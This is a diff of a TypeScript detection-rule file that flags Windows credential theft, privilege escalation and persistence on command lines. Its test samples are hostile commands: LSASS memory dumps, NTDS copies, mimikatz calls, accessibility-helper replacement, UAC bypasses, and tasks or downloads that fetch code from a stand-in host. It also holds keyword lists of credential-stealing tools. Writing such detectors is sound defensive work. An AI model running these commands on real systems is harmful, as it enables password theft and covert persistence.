@@ -4,7 +4,19 @@ import { isWritablePlace } from './places.ts';
 import { all, any, arg, holds, onProcess, onText, standsAlone, type Row } from './row.ts';
 import type { Argument, Process } from '../types.ts';
 
-const REGISTRY = ['reg', 'set-itemproperty', 'new-itemproperty', 'new-item', 'set-item', 'remove-itemproperty', 'remove-item', 'rename-item', 'regini', 'move-item', 'copy-item'];
+const REGISTRY = [
+  'reg',
+  'set-itemproperty',
+  'new-itemproperty',
+  'new-item',
+  'set-item',
+  'remove-itemproperty',
+  'remove-item',
+  'rename-item',
+  'regini',
+  'move-item',
+  'copy-item',
+];
 const WRITES = /^(?:add|import|copy|delete|restore|load)$/;
 
 /** The registry is changed at a key whose name holds one of the pieces. */
@@ -25,56 +37,188 @@ export const WINDOWS_CREDENTIALS: readonly Row[] = [
   behaviour('lsass-dump', ['credential-memory', 'T1003.001', 'credential-access', 'critical', 'high'], {
     reason: 'The memory of the process that holds the passwords of logged-on users is written to a file.',
     benign: ['support of Microsoft asked for it'],
-    hits: ['rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x\\l.dmp full', 'procdump -accepteula -ma lsass.exe l.dmp', 'powershell "rundll32 comsvcs.dll, #24 (Get-Process lsass).Id C:\\x.dmp full"'],
+    hits: [
+      'rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x\\l.dmp full',
+      'procdump -accepteula -ma lsass.exe l.dmp',
+      'powershell "rundll32 comsvcs.dll, #24 (Get-Process lsass).Id C:\\x.dmp full"',
+    ],
     misses: ['tasklist /fi "imagename eq lsass.exe"', 'procdump -ma w3wp.exe'],
     look: onText(['comsvcs', 'lsass', 'sekurlsa', 'minidump'], ({ lower }, _at, literal) => {
       if (literal === 'comsvcs') return /comsvcs(?:\.dll)?["',\s]{1,6}(?:#\+?-?\d*24|minidump)/.test(lower);
       if (literal === 'sekurlsa') return true;
-      if (literal === 'minidump') return /minidump[^a-z]/.test(lower) && /lsass|get-process|comsvcs|writedump/.test(lower);
-      return /\.dmp|\bdump|procdump|-ma?\b|-mm\b|-pid|avdump|rdrleakdiag|sqldumper|createdump|out-minidump|taskmgr|nanodump|-r lsass|ppldump|xordump|dumpert/.test(lower) && !/^tasklist/.test(lower);
+      if (literal === 'minidump')
+        return /minidump[^a-z]/.test(lower) && /lsass|get-process|comsvcs|writedump/.test(lower);
+      return (
+        /\.dmp|\bdump|procdump|-ma?\b|-mm\b|-pid|avdump|rdrleakdiag|sqldumper|createdump|out-minidump|taskmgr|nanodump|-r lsass|ppldump|xordump|dumpert/.test(
+          lower,
+        ) && !/^tasklist/.test(lower)
+      );
     }),
-  }),
-  behaviour('hive-copy', ['credential-store', 'T1003.002', 'credential-access', 'critical', 'high'], {
-    reason: 'The part of the registry that holds the password hashes of the machine is copied.',
-    benign: ['backups made by hand'],
-    hits: ['reg save HKLM\\SAM C:\\x\\s.hiv', 'cmd /c reg save hklm\\security %temp%\\sec', 'reg export HKLM\\sam a'],
-    misses: ['reg save HKLM\\Software\\Vendor a.hiv', 'reg query HKLM\\SAM'],
-    look: onProcess(['reg'], all(arg(/^(?:save|export|s)$/), arg(/^["']?hk(?:lm|ey_local_machine)\\(?:sam|security|system)["']?$/))),
   }),
   behaviour('hive-file-copy', ['credential-store', 'T1003.002', 'credential-access', 'critical', 'high'], {
     reason: 'A file with the password hashes of the machine or the domain is copied, past its lock.',
     benign: ['backup software'],
-    hits: ['esentutl.exe /y /vss c:\\windows\\ntds\\ntds.dit /d c:\\n.dit', 'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\x', 'ntdsutil "ac i ntds" "ifm" "create full C:\\x" q q'],
+    hits: [
+      'esentutl.exe /y /vss c:\\windows\\ntds\\ntds.dit /d c:\\n.dit',
+      'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\x',
+      'ntdsutil "ac i ntds" "ifm" "create full C:\\x" q q',
+    ],
     misses: ['dir C:\\Windows\\NTDS', 'ntdsutil "files" "info" q q'],
-    look: onText(['ntds.dit', 'config\\sam', 'config\\security', 'create full', 'ac i ntds', 'activate instance ntds'], ({ lower }, _at, literal) => (literal === 'create full' || literal.startsWith('ac') ? /ntdsutil|ifm|ntds/.test(lower) : /copy|esentutl|certutil|ntdsutil|vss|get-content|invoke-ninjacopy|robocopy|shadowcopy|type|secretsdump|readallbytes|\/y|diskshadow/.test(lower))),
+    look: onText(
+      ['ntds.dit', 'config\\sam', 'config\\security', 'create full', 'ac i ntds', 'activate instance ntds'],
+      ({ lower }, _at, literal) =>
+        literal === 'create full' || literal.startsWith('ac')
+          ? /ifm|create full/.test(lower)
+          : /copy|esentutl|certutil|ntdsutil|vss|get-content|invoke-ninjacopy|robocopy|shadowcopy|type|secretsdump|readallbytes|\/y|diskshadow/.test(
+              lower,
+            ),
+    ),
   }),
   behaviour('shadow-copy-open', ['credential-store', 'T1003.003', 'credential-access', 'high', 'medium'], {
     reason: 'A shadow copy is made or opened by hand, the usual way past the lock of the password files.',
     benign: ['backup scripts'],
-    hits: ['vssadmin create shadow /for=C:', 'wmic shadowcopy call create Volume=C:\\', 'mklink /D C:\\x \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\'],
+    hits: [
+      'vssadmin create shadow /for=C:',
+      'wmic shadowcopy call create Volume=C:\\',
+      'mklink /D C:\\x \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\',
+    ],
     misses: ['vssadmin list shadows', 'vssadmin list writers'],
-    look: onText(['create shadow', 'shadowcopy call create', 'harddiskvolumeshadowcopy', "win32_shadowcopy').create", 'win32_shadowcopy").create', 'diskshadow']),
+    look: onText([
+      'create shadow',
+      'shadowcopy call create',
+      'harddiskvolumeshadowcopy',
+      "win32_shadowcopy').create",
+      'win32_shadowcopy").create',
+      'diskshadow',
+    ]),
   }),
   behaviour('credential-tool', ['credential-tool', 'T1003', 'credential-access', 'critical', 'high'], {
     reason: 'A tool is named that takes passwords out of memory, of the registry or of programs.',
     benign: ['penetration tests'],
     hits: ['C:\\x\\mimikatz.exe "privilege::debug" exit', 'gsecdump.exe -a', 'laZagne.exe all'],
     misses: ['notepad readme.txt'],
-    look: onText(['mimikatz', 'invoke-mimi', 'gsecdump', 'lazagne', 'wce.exe', 'pwdump', 'fgdump', 'nanodump', 'pypykatz', 'dumpert', 'sharpdump', 'safetykatz', 'internalmonologue', 'sharpchrome', 'sharpdpapi', 'dcsync', 'lsadump::', 'kerberos::', 'privilege::debug', 'token::elevate', 'dpapi::', 'crypto::', 'misc::skeleton', 'vault::', 'sharpsecdump', 'out-minidump', 'invoke-powerdump', 'get-gpppassword', 'get-gppautologon', 'invoke-ninjacopy', 'webbrowserpassview', 'mailpassview', 'netpass.exe', 'hashdump', 'nirsoft', 'invoke-inveigh', 'inveigh.exe', 'responder.py', 'keethief', 'sessiongopher', 'gosecretsdump', 'secretsdump', 'lsassy', 'handlekatz', 'physmem2profit', 'credentialfileview', 'vaultcmd /listcreds', 'dumpcreds', 'quarkspwdump', 'firefox_decrypt', 'chrome-passwords'], (layer, at, literal) => literal.includes('.') || literal.includes(':') || literal.length > 7 || standsAlone(layer, at, literal)),
+    look: onText(
+      [
+        'mimikatz',
+        'invoke-mimi',
+        'gsecdump',
+        'lazagne',
+        'wce.exe',
+        'pwdump',
+        'fgdump',
+        'nanodump',
+        'pypykatz',
+        'dumpert',
+        'sharpdump',
+        'safetykatz',
+        'internalmonologue',
+        'sharpchrome',
+        'sharpdpapi',
+        'dcsync',
+        'lsadump::',
+        'kerberos::',
+        'privilege::debug',
+        'token::elevate',
+        'dpapi::',
+        'crypto::',
+        'misc::skeleton',
+        'vault::',
+        'sharpsecdump',
+        'out-minidump',
+        'invoke-powerdump',
+        'get-gpppassword',
+        'get-gppautologon',
+        'invoke-ninjacopy',
+        'webbrowserpassview',
+        'mailpassview',
+        'netpass.exe',
+        'hashdump',
+        'nirsoft',
+        'invoke-inveigh',
+        'inveigh.exe',
+        'responder.py',
+        'keethief',
+        'sessiongopher',
+        'gosecretsdump',
+        'secretsdump',
+        'lsassy',
+        'handlekatz',
+        'physmem2profit',
+        'credentialfileview',
+        'vaultcmd /listcreds',
+        'dumpcreds',
+        'quarkspwdump',
+        'firefox_decrypt',
+        'chrome-passwords',
+      ],
+      (layer, at, literal) =>
+        literal.includes('.') || literal.includes(':') || literal.length > 7 || standsAlone(layer, at, literal),
+    ),
   }),
   behaviour('stored-passwords', ['credential-search', 'T1552.001', 'credential-access', 'medium', 'medium'], {
     reason: 'Files or the registry are searched for passwords.',
     benign: ['an administrator looks for leaked passwords'],
-    hits: ['findstr /si password *.xml *.ini *.txt', 'reg query HKLM /f password /t REG_SZ /s', 'powershell "gci -Recurse | Select-String -Pattern password"'],
+    hits: [
+      'findstr /si password *.xml *.ini *.txt',
+      'reg query HKLM /f password /t REG_SZ /s',
+      'powershell "gci -Recurse | Select-String -Pattern password"',
+    ],
     misses: ['findstr /i error a.log', 'reg query HKLM\\Software\\Vendor'],
-    look: onProcess(['findstr', 'reg', 'select-string', 'find', 'dir', 'get-childitem', 'where'], ({ args, name }) => (name === 'dir' || name === 'get-childitem' || name === 'where' ? args.find(({ lower }) => /^\*?(?:pass|cred|\*pass|\*cred|unattend|sysprep|vnc|\*\.kdbx|\*\.rdp|\*\.ppk|web\.config|groups\.xml)/.test(lower)) : args.find(({ lower }) => /passw|cpassword|\bpwd\b|credential|secret/.test(lower) && !/[\\/]/.test(lower.slice(0, 2))))),
+    look: onProcess(['findstr', 'reg', 'select-string', 'find', 'dir', 'get-childitem', 'where'], ({ args, name }) =>
+      name === 'dir' || name === 'get-childitem' || name === 'where'
+        ? args.find(({ lower }) =>
+            /^\*?(?:pass|cred|\*pass|\*cred|unattend|sysprep|vnc|\*\.kdbx|\*\.rdp|\*\.ppk|web\.config|groups\.xml)/.test(
+              lower,
+            ),
+          )
+        : args.find(
+            ({ lower }) => /passw|cpassword|\bpwd\b|credential|secret/.test(lower) && !/[\\/]/.test(lower.slice(0, 2)),
+          ),
+    ),
   }),
   behaviour('stored-sessions', ['credential-search', 'T1552.002', 'credential-access', 'high', 'medium'], {
     reason: 'A place where Windows or a program keeps saved passwords is read.',
     benign: ['inventory of saved credentials'],
-    hits: ['cmdkey /list', 'reg query "HKCU\\Software\\SimonTatham\\PuTTY\\Sessions" /s', 'rundll32.exe keymgr.dll,KRShowKeyMgr', 'netsh wlan show profile name=Office key=clear'],
+    hits: [
+      'cmdkey /list',
+      'reg query "HKCU\\Software\\SimonTatham\\PuTTY\\Sessions" /s',
+      'rundll32.exe keymgr.dll,KRShowKeyMgr',
+      'netsh wlan show profile name=Office key=clear',
+    ],
     misses: ['cmdkey /add:srv1 /user:a', 'netsh wlan show interfaces'],
-    look: onText(['cmdkey /list', 'cmdkey.exe /list', 'simontatham\\putty\\sessions', 'keymgr.dll', 'key=clear', 'passwordvault', 'vaultcmd', 'login data', 'logins.json', 'key4.db', 'winlogon" /v defaultpassword', 'defaultpassword', 'groups.xml', 'unattend.xml', 'sitemanager.xml', 'recentservers.xml', 'getpasswordvault', 'realvnc', 'winscp 2\\sessions', '\\microsoft\\credentials', '\\microsoft\\protect', 'local state', '/text:*', '/@text:', 'dpapi', 'protecteddata]::unprotect'], ({ lower }, _at, literal) => !/^(?:groups|unattend|sitemanager|recentservers|login data|local state|dpapi|realvnc)/.test(literal) || /type|copy|get-content|findstr|select-string|query|where|dir|gci|more/.test(lower)),
+    look: onText(
+      [
+        'cmdkey /list',
+        'cmdkey.exe /list',
+        'simontatham\\putty\\sessions',
+        'keymgr.dll',
+        'key=clear',
+        'passwordvault',
+        'vaultcmd',
+        'login data',
+        'logins.json',
+        'key4.db',
+        'winlogon" /v defaultpassword',
+        'defaultpassword',
+        'groups.xml',
+        'unattend.xml',
+        'sitemanager.xml',
+        'recentservers.xml',
+        'getpasswordvault',
+        'realvnc',
+        'winscp 2\\sessions',
+        '\\microsoft\\credentials',
+        '\\microsoft\\protect',
+        'local state',
+        '/text:*',
+        '/@text:',
+        'dpapi',
+        'protecteddata]::unprotect',
+      ],
+      ({ lower }, _at, literal) =>
+        !/^(?:groups|unattend|sitemanager|recentservers|login data|local state|dpapi|realvnc)/.test(literal) ||
+        /type|copy|get-content|findstr|select-string|query|where|dir|gci|more/.test(lower),
+    ),
   }),
   behaviour('password-prompt-fake', ['credential-prompt', 'T1056.002', 'credential-access', 'high', 'medium'], {
     reason: 'A window asks the user for the password, and the script reads it.',
@@ -86,144 +230,304 @@ export const WINDOWS_CREDENTIALS: readonly Row[] = [
   behaviour('password-guessing-windows', ['password-guessing', 'T1110', 'credential-access', 'high', 'high'], {
     reason: 'Many passwords or accounts are tried.',
     benign: [],
-    hits: ['kerbrute.exe bruteuser --dc dc1 -d corp u.txt a', 'for /f %i in (u.txt) do net use \\\\dc1\\IPC$ /user:corp\\%i pass', 'powershell "Invoke-DomainPasswordSpray -Password x"'],
+    hits: [
+      'kerbrute.exe bruteuser --dc dc1 -d corp u.txt a',
+      'for /f %i in (u.txt) do net use \\\\dc1\\IPC$ /user:corp\\%i pass',
+      'powershell "Invoke-DomainPasswordSpray -Password x"',
+    ],
     misses: ['net use \\\\fs01\\share'],
-    look: onText(['kerbrute', 'passwordspray', 'hydra ', 'medusa -', 'crackmapexec', 'netexec', 'invoke-bruteforce', 'in (', 'bruteuser', 'crowbar', 'ncrack', 'patator', 'o365spray', 'sprayhound', 'hashcat', 'john --'], ({ lower }, _at, literal) => literal !== 'in (' || /for .{0,200}net(?:\.exe)? use .{0,200}\/user:/.test(lower)),
+    look: onText(
+      [
+        'kerbrute',
+        'passwordspray',
+        'hydra ',
+        'medusa -',
+        'crackmapexec',
+        'netexec',
+        'invoke-bruteforce',
+        'in (',
+        'bruteuser',
+        'crowbar',
+        'ncrack',
+        'patator',
+        'o365spray',
+        'sprayhound',
+        'hashcat',
+        'john --',
+      ],
+      ({ lower }, _at, literal) => literal !== 'in (' || /for .{0,200}net(?:\.exe)? use .{0,200}\/user:/.test(lower),
+    ),
   }),
 ];
 
 export const WINDOWS_PERSISTENCE: readonly Row[] = [
-  behaviour('run-key', ['persistence-key', 'T1547.001', 'persistence', 'medium', 'medium'], {
-    reason: 'A program is entered to start at every logon.',
-    benign: ['software that starts with Windows'],
-    hits: ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\a.exe /f', 'powershell "Set-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce -Name a -Value b"'],
-    misses: ['reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'reg add HKCU\\Software\\Vendor /v Run'],
-    look: registry('currentversion\\run', 'policies\\explorer\\run', 'currentversion\\windows\\run'),
-  }),
-  behaviour('run-key-odd', ['persistence-key', 'T1547.001', 'persistence', 'critical', 'high'], {
-    reason: 'An interpreter, an address or a program in a folder of the user is entered to start at every logon.',
-    benign: [],
-    hits: ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /t REG_SZ /d "powershell -w hidden -c x" /f', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v u /d "msiexec /q /i http://a.example.net/k.msi"'],
-    misses: ['reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "C:\\Program Files\\A\\a.exe"'],
-    look: onProcess(REGISTRY, all(changes('currentversion\\run', 'policies\\explorer\\run'), ({ args }) => args.find(({ lower }) => /powershell|cmd(?:\.exe)? \/c|mshta|rundll32|regsvr32|wscript|cscript|https?:|javascript:/.test(lower) || (isWritablePlace(lower) && !/currentversion/.test(lower))))),
-  }),
-  behaviour('logon-key', ['persistence-key', 'T1547.004', 'persistence', 'high', 'high'], {
-    reason: 'A setting is changed by which Windows starts programs or loads libraries at boot or logon, beside the usual Run keys.',
-    benign: ['kiosk set-up', 'single sign-on software'],
-    hits: ['reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe, a.exe"', 'reg add HKLM\\System\\CurrentControlSet\\Control\\Lsa /v "Notification Packages" /d a', 'reg add HKCU\\Environment /v UserInitMprLogonScript /d a.bat'],
-    misses: ['reg query "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon"', 'reg add HKCU\\Environment /v PATH /d x'],
-    look: registry('currentversion\\winlogon', 'userinitmprlogonscript', 'active setup\\installed components', 'control\\lsa', 'appcertdlls', 'appinit_dlls', 'control\\print\\monitors', 'print\\environments', 'w32time\\timeproviders', 'netsh', 'sessionmanager\\bootexecute', 'session manager', 'securityproviders', 'credential providers', 'command processor', 'explorer\\shell folders', 'user shell folders', 'currentversion\\windows', 'shellserviceobjectdelayload', 'sharedtaskscheduler', 'networkprovider', 'scrnsave.exe', 'cor_profiler', 'minint', 'msdtc', 'wdigest', 'accessibility\\ats', 'office test', 'outlook\\webview', 'office\\15.0\\outlook\\today', 'knowndlls', 'htmlhelp author', 'telemetrycontroller', 'silentprocessexit', 'safeboot', 'terminal server\\addins', 'initialprogram', 'termservice\\parameters', 'cryptography\\oid', 'wmi autorecover', 'system\\currentcontrolset\\services', 'control\\contentindex\\language', 'autodialdll', '.net framework', 'appcompatflags', 'bootverificationprogram', 'aedebug', 'windows error reporting\\hangs', 'protocolhandler'),
-  }),
-  behaviour('debugger-key', ['persistence-key', 'T1546.012', 'persistence', 'critical', 'high'], {
-    reason: 'Another program is set to start in place of one of Windows, such as the helpers of the logon screen.',
-    benign: ['developers attach a debugger'],
-    hits: ['reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /d cmd.exe'],
-    misses: ['reg query "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options"'],
-    look: registry('image file execution options'),
-  }),
   behaviour('logon-helper-replaced', ['persistence-file', 'T1546.008', 'persistence', 'critical', 'high'], {
-    reason: 'A helper of the logon screen is replaced: a command window opens for whoever presses its key, before any logon.',
+    reason:
+      'A helper of the logon screen is replaced: a command window opens for whoever presses its key, before any logon.',
     benign: [],
-    hits: ['copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\utilman.exe', 'takeown /f C:\\Windows\\System32\\sethc.exe'],
+    hits: [
+      'copy /y C:\\Windows\\System32\\cmd.exe C:\\Windows\\System32\\utilman.exe',
+      'takeown /f C:\\Windows\\System32\\sethc.exe',
+    ],
     misses: ['sfc /scannow', 'start utilman.exe'],
-    look: onProcess(['copy', 'move', 'ren', 'rename', 'takeown', 'icacls', 'copy-item', 'move-item', 'rename-item', 'mklink', 'xcopy', 'replace', 'del', 'attrib'], holds('sethc', 'utilman', 'osk.exe', 'narrator', 'magnify', 'displayswitch', 'atbroker', 'printfilterpipeline', 'stickykeys')),
-  }),
-  behaviour('class-key', ['persistence-key', 'T1546.015', 'persistence', 'high', 'medium'], {
-    reason: 'The library or command behind a class or a file type is changed, also the usual way round the consent prompt.',
-    benign: ['software registers its file types'],
-    hits: ['reg add HKCU\\Software\\Classes\\CLSID\\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\\InprocServer32 /ve /d C:\\x\\a.dll', 'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d cmd.exe'],
-    misses: ['reg query HKCR\\.txt'],
-    look: registry('classes\\clsid', 'inprocserver32', 'shell\\open\\command', 'ms-settings', 'mscfile', 'exefile', 'txtfile', 'shell\\runas', 'treatas', 'scriptleturl', 'delegateexecute', 'shellex', 'localserver32', 'classes\\typelib', 'progid'),
+    look: onProcess(
+      [
+        'copy',
+        'move',
+        'ren',
+        'rename',
+        'takeown',
+        'icacls',
+        'copy-item',
+        'move-item',
+        'rename-item',
+        'mklink',
+        'xcopy',
+        'replace',
+        'del',
+        'attrib',
+      ],
+      holds(
+        'sethc',
+        'utilman',
+        'osk.exe',
+        'narrator',
+        'magnify',
+        'displayswitch',
+        'atbroker',
+        'printfilterpipeline',
+        'stickykeys',
+      ),
+    ),
   }),
   behaviour('consent-bypass', ['privilege', 'T1548.002', 'privilege-escalation', 'high', 'high'], {
     reason: 'The consent prompt of Windows is switched off or gone round.',
     benign: ['hardening is undone for a test'],
-    hits: ['reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /d 0 /f', 'reg add HKCU\\Environment /v windir /d "cmd /c x & REM "', 'schtasks /run /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /i'],
+    hits: [
+      'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /d 0 /f',
+      'reg add HKCU\\Environment /v windir /d "cmd /c x & REM "',
+      'schtasks /run /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /i',
+    ],
     misses: ['reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System'],
-    look: onText(['enablelua', 'consentpromptbehavioradmin', 'silentcleanup', 'bypassuac', 'uacme', 'akagi', 'app paths\\control.exe', 'environment /v windir', "environment' -name 'windir", 'promptonsecuredesktop', 'localaccounttokenfilterpolicy', 'isolatedcommand', 'invoke-psuacme', 'uacbypass', 'bypass-uac', 'mock trusted', 'c:\\windows \\', 'elevation:administrator'], ({ lower }, _at, literal) => (!/^(?:enablelua|consent|prompton|localacc)/.test(literal) || /\badd\b|set-item|new-item/.test(lower))),
+    look: onText(
+      [
+        'enablelua',
+        'consentpromptbehavioradmin',
+        'silentcleanup',
+        'bypassuac',
+        'uacme',
+        'akagi',
+        'app paths\\control.exe',
+        'environment /v windir',
+        "environment' -name 'windir",
+        'promptonsecuredesktop',
+        'localaccounttokenfilterpolicy',
+        'isolatedcommand',
+        'invoke-psuacme',
+        'uacbypass',
+        'bypass-uac',
+        'mock trusted',
+        'c:\\windows \\',
+        'elevation:administrator',
+      ],
+      ({ lower }, _at, literal) =>
+        !/^(?:enablelua|consent|prompton|localacc)/.test(literal) || /\badd\b|set-item|new-item/.test(lower),
+    ),
   }),
-  behaviour('scheduled-task', ['persistence-task', 'T1053.005', 'persistence', 'medium', 'medium'], {
+  behaviour('scheduled-task', ['persistence-task', 'T1053.005', 'persistence', 'low', 'high'], {
     reason: 'A task is made that Windows starts by itself.',
     benign: ['maintenance of software'],
-    hits: ['schtasks /create /tn a /tr notepad.exe /sc daily', 'powershell "Register-ScheduledTask -TaskName a -Action $a"'],
+    hits: [
+      'schtasks /create /tn a /tr notepad.exe /sc daily',
+      'powershell "Register-ScheduledTask -TaskName a -Action $a"',
+    ],
     misses: ['schtasks /query', 'schtasks /run /tn a'],
-    look: onProcess(['schtasks', 'register-scheduledtask', 'new-scheduledtask', 'at', 'set-scheduledtask', 'register-scheduledjob'], ({ args, name }, { os }) => {
-      if (name === 'schtasks') return args.find(({ lower }) => /^[-/](?:create|change)$/.test(lower));
-      return name === 'at' ? (os === 'windows' ? args.find(({ lower }) => /^\d{1,2}:\d\d/.test(lower)) : undefined) : (args[0] ?? undefined);
-    }),
+    look: onProcess(
+      ['schtasks', 'register-scheduledtask', 'new-scheduledtask', 'at', 'set-scheduledtask', 'register-scheduledjob'],
+      ({ args, name }, { os }) => {
+        if (name === 'schtasks') return args.find(({ lower }) => /^[-/](?:create|change)$/.test(lower));
+        return name === 'at'
+          ? os === 'windows'
+            ? args.find(({ lower }) => /^\d{1,2}:\d\d/.test(lower))
+            : undefined
+          : (args[0] ?? undefined);
+      },
+    ),
   }),
   behaviour('scheduled-task-odd', ['persistence-task', 'T1053.005', 'persistence', 'critical', 'high'], {
     reason: 'A task is made that starts an interpreter, an address or a program in a folder of the user.',
     benign: ['administrators schedule a script'],
-    hits: ['schtasks /create /sc minute /mo 5 /tn a /tr "C:\\Users\\Public\\svchost.exe" /f', 'schtasks /create /tn a /tr "powershell -enc AAAA" /sc once /st 10:00', 'schtasks /create /tn a /tr "mshta http://a.example.net/x" /sc onlogon'],
+    hits: [
+      'schtasks /create /sc minute /mo 5 /tn a /tr "C:\\Users\\Public\\svchost.exe" /f',
+      'schtasks /create /tn a /tr "powershell -enc AAAA" /sc once /st 10:00',
+      'schtasks /create /tn a /tr "mshta http://a.example.net/x" /sc onlogon',
+    ],
     misses: ['schtasks /create /tn backup /tr "C:\\Program Files\\B\\b.exe" /sc daily'],
-    look: onProcess(['schtasks', 'new-scheduledtaskaction'], ({ args, name }) => (name === 'schtasks' && !args.some(({ lower }) => /^[-/](?:create|change)$/.test(lower)) ? undefined : args.find(({ lower }) => /powershell.{0,200}(?:-e|hidden|https?:|iex|download)|mshta|rundll32|regsvr32|https?:|wscript|cmd(?:\.exe)? \/c.{0,300}(?:powershell|https?:|\\temp\\|mshta)/.test(lower) || isWritablePlace(lower.replace(/^["']/, ''))))),
+    look: onProcess(['schtasks', 'new-scheduledtaskaction'], ({ args, name }) =>
+      name === 'schtasks' && !args.some(({ lower }) => /^[-/](?:create|change)$/.test(lower))
+        ? undefined
+        : args
+            .filter((_, at) => /^[-/](?:tr|execute|argument)$/.test(args[at - 1]?.lower ?? ''))
+            .find(
+              ({ lower }) =>
+                /powershell.{0,200}(?:-e|hidden|https?:|iex|download)|mshta|rundll32|regsvr32|https?:|wscript|cmd(?:\.exe)? \/c.{0,300}(?:powershell|https?:|\\temp\\|mshta)/.test(
+                  lower,
+                ) || isWritablePlace(lower.replace(/^["']/, '')),
+            ),
+    ),
   }),
   behaviour('scheduled-task-system', ['persistence-task-user', 'T1053.005', 'privilege-escalation', 'medium', 'low'], {
     reason: 'The task runs as the system, or on another machine.',
     benign: ['maintenance of software'],
-    hits: ['schtasks /create /tn a /tr b.exe /sc onstart /ru system', 'schtasks /create /s srv1 /tn a /tr b.exe /sc once /st 10:00'],
+    hits: [
+      'schtasks /create /tn a /tr b.exe /sc onstart /ru system',
+      'schtasks /create /s srv1 /tn a /tr b.exe /sc once /st 10:00',
+    ],
     misses: ['schtasks /create /tn a /tr b.exe /sc daily'],
-    look: onProcess(['schtasks'], all(arg(/^[-/]create$/), ({ args }) => args.find(({ lower }, at) => /^[-/]s$/.test(lower) || (/^[-/]ru$/.test(lower) && /system/.test(args[at + 1]?.lower ?? ''))))),
+    look: onProcess(
+      ['schtasks'],
+      all(arg(/^[-/]create$/), ({ args }) =>
+        args.find(
+          ({ lower }, at) =>
+            /^[-/]s$/.test(lower) || (/^[-/]ru$/.test(lower) && /system/.test(args[at + 1]?.lower ?? '')),
+        ),
+      ),
+    ),
   }),
   behaviour('service-made', ['persistence-service', 'T1543.003', 'persistence', 'medium', 'medium'], {
     reason: 'A service is made or its program changed.',
     benign: ['installation of software'],
-    hits: ['sc create x binPath= C:\\a.exe', 'sc config spooler binPath= "net localgroup administrators a /add"', 'powershell "New-Service -Name a -BinaryPathName b"'],
+    hits: [
+      'sc create x binPath= C:\\a.exe',
+      'sc config spooler binPath= "net localgroup administrators a /add"',
+      'powershell "New-Service -Name a -BinaryPathName b"',
+    ],
     misses: ['sc query', 'sc config wuauserv start= auto'],
-    look: onProcess(['sc', 'new-service', 'set-service'], ({ args, name }) => (name === 'new-service' ? args[0] : args.find(({ lower }) => /^(?:create|binpath=?|-binarypathname|failurecommand|failure|command=)/.test(lower) && (lower !== 'create' || args.some(({ lower: other }) => /binpath/.test(other)))))),
+    look: onProcess(['sc', 'new-service', 'set-service'], ({ args, name }) =>
+      name === 'new-service'
+        ? args[0]
+        : args.find(
+            ({ lower }) =>
+              /^(?:create|binpath=?|-binarypathname|failurecommand|command=)/.test(lower) &&
+              (lower !== 'create' || args.some(({ lower: other }) => /binpath/.test(other))),
+          ),
+    ),
   }),
   behaviour('wmi-subscription', ['persistence-wmi', 'T1546.003', 'persistence', 'critical', 'high'], {
     reason: 'WMI is told to run something whenever an event occurs, a hidden way to stay.',
     benign: ['monitoring software'],
-    hits: ['wmic /NAMESPACE:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE Name="a"', 'powershell "Set-WmiInstance -Class __EventFilter -Namespace root\\subscription"'],
+    hits: [
+      'wmic /NAMESPACE:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE Name="a"',
+      'powershell "Set-WmiInstance -Class __EventFilter -Namespace root\\subscription"',
+    ],
     misses: ['wmic /namespace:\\\\root\\cimv2 path win32_service get name'],
-    look: onText(['commandlineeventconsumer', 'activescripteventconsumer', '__eventfilter', '__filtertoconsumerbinding', 'register-wmievent', 'root\\subscription', 'root/subscription'], ({ lower }) => /create|set-wmi|new-cim|register|-arguments|mofcomp|new-object/.test(lower)),
+    look: onText(
+      [
+        'commandlineeventconsumer',
+        'activescripteventconsumer',
+        '__eventfilter',
+        '__filtertoconsumerbinding',
+        'register-wmievent',
+        'root\\subscription',
+        'root/subscription',
+      ],
+      ({ lower }) => /create|set-wmi|new-cim|register|-arguments|mofcomp|new-object/.test(lower),
+    ),
   }),
   behaviour('startup-folder', ['persistence-file', 'T1547.001', 'persistence', 'high', 'medium'], {
     reason: 'A file is put into the folder whose content starts at logon.',
     benign: ['users put a program there'],
-    hits: ['copy a.vbs "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs"', 'powershell "iwr http://a.example.net/r.exe -OutFile \'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\r.exe\'"'],
+    hits: [
+      'copy a.vbs "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs"',
+      'powershell "iwr http://a.example.net/r.exe -OutFile \'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\r.exe\'"',
+    ],
